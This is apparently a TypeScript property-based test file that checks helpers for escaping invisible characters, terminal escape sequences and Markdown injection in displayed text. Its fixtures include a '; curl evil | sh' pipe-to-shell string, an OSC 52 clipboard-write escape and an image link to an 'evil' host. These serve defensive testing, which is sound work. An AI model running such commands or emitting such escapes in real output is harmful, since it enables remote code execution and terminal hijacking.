import * as fc from 'fast-check';
import { codeSpan, summaryLine } from '../../src/contracts/markdown.ts';
import { cutMiddle, visibleJson, visibleJsonText, visibleLine, visibleText } from '../../src/contracts/visible-text.ts';

/** Everything that acts on a terminal or is not seen, but a line break. */
const UNSEEN = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
const anyText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.array(fc.integer({ min: 0, max: 0xffff })).map((units) => String.fromCharCode(...units)),
);

test.each([
  ['a title and a clipboard', '\u001B]0;owned\u0007\u001B]52;c;aGk=\u001B\\', '\\u001b]0;owned\\u0007\\u001b]52;c;aGk=\\u001b\\'],
  ['C1 controls', '\u009B31m\u0090q\u009C', '\\u009b31m\\u0090q\\u009c'],
  ['bidi overrides and isolates', 'a\u202Eb\u2066c\u2069', 'a\\u202eb\\u2066c\\u2069'],
  ['zero-width characters', 'a\u200Bb\uFEFFc\u2060', 'a\\u200bb\\ufeffc\\u2060'],
  ['tags and variation selectors', 'a\u{E0041}b\u{E0100}c\uFE0F', 'a\\u{e0041}b\\u{e0100}c\\ufe0f'],
  ['lone surrogates', '\uD800x\uDC00', '\\ud800x\\udc00'],
  ['line separators and a carriage return', 'a\u2028b\u2029c\rd', 'a\\u2028b\\u2029c\\u000dd'],
  ['fillers', '\u3164\u115F\u2800', '\\u3164\\u115f\\u2800'],
  ['stacked marks', `a${'\u0301'.repeat(6)}`, `a${'\u0301'.repeat(4)}\\u0301\\u0301`],
  ['lines, tabs, accents, scripts and emoji stay', 'Zoë\r\n漢字\tعربى 👍🏽 ❤️ 👩‍💻', 'Zoë\n漢字    عربى 👍🏽 ❤ 👩💻'],
])('%s', (_, text, shown) => {
  expect(visibleText(text)).toBe(shown);
});

test('whatever a text holds, only what is seen is left, and a line stays one line', () => {
  fc.assert(
    fc.property(anyText, (text) => {
      expect(visibleText(text).replaceAll('\n', '')).not.toMatch(UNSEEN);
      expect(visibleLine(text)).not.toContain('\n');
    }),
  );
});

test('JSON hides nothing and means the same', () => {
  fc.assert(
    fc.property(fc.dictionary(anyText, anyText), (value) => {
      for (const json of [visibleJson(value), visibleJson(value, 2), visibleJsonText(`${JSON.stringify(value)}\n`)]) {
        expect(json.replaceAll('\n', '')).not.toMatch(UNSEEN);
        expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(value)));
      }
    }),
  );
  expect(visibleJson({ a: 'x\u00A0y\u{E0041}' })).toBe('{"a":"x\\u00a0y\\udb40\\udc41"}');
});

test('a cut names how much is missing and keeps the end', () => {
  expect(cutMiddle('0123456789', 10)).toBe('0123456789');
  expect(cutMiddle(`${'a'.repeat(100)}; curl evil | sh`, 30)).toBe(`${'a'.repeat(20)} …cut, 86 more characters…  evil | sh`);
});

test('text of others stays text in Markdown', () => {
  expect(codeSpan('a`b``` [x](http://e)\n# h')).toBe('`a\\u0060b\\u0060\\u0060\\u0060 [x](http://e)\\n# h`');
  expect(summaryLine('npm test --all')).toBe('npm test --all');
  expect(summaryLine('![x](http://evil/p.png)')).toBe('`![x](http://evil/p.png)`');
  expect(summaryLine('# big\n<img src=x>')).toBe('`# big\\n<img src=x>`');
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (text) => {
      const line = summaryLine(text);
      expect(Buffer.byteLength(line)).toBeLessThanOrEqual(200);
      expect(line).not.toMatch(UNSEEN);
    }),
  );
});
